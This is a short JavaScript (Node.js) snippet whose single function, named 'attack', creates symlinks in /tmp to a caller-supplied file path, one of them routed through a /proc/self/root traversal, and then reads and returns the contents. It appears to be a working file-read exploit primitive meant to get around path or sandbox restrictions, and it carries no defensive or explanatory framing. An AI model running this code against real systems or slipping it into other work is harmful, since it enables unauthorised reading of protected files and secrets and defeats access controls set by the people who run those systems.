const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };

const attack = (inputs) => {
  fs.symlinkSync(inputs.file, '/tmp/link');
  fs.symlinkSync(`/proc/self/root/../../..${inputs.file}`, '/tmp/longer');
  return ['/tmp/link', '/tmp/longer'].map((path) => tried(() => fs.readFileSync(path, 'utf8'))).join('');
};
